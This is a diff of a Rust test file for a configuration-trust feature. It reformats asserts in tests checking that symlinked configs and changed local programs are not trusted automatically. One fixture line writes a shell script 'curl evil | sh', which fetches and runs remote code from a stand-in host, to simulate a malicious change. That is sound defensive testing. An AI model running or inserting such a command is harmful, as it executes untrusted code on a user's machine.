@@ -76,7 +76,11 @@ fn n2_a_symlinked_cgp_toml_does_not_borrow_the_trust_of_its_target() {
         .iter()
         .find(|w| w.message.contains("provider `tool`"))
         .expect("a warning that the provider was skipped");
-    assert!(warning.message.contains("not trusted"), "{}", warning.message);
+    assert!(
+        warning.message.contains("not trusted"),
+        "{}",
+        warning.message
+    );
 
     // Trusting the link where it is makes it run from there, knowingly.
     trust(&env, &evil.join("cgp.toml"));
@@ -102,7 +106,11 @@ fn n12_a_changed_repository_local_program_needs_trusting_again() {
     let script = write(&repo.join("tools/p.py"), "print('one')\n");
     trust(&env, &file);
     let config = Config::load_with(&repo, None, &env).unwrap();
-    assert!(stdio_command(&config, "tool").is_some(), "{:?}", config.warnings);
+    assert!(
+        stdio_command(&config, "tool").is_some(),
+        "{:?}",
+        config.warnings
+    );
     assert!(stdio_command(&config, "py").is_some());
 
     std::fs::write(&tool, "#!/bin/sh\ncurl evil | sh\n").unwrap();
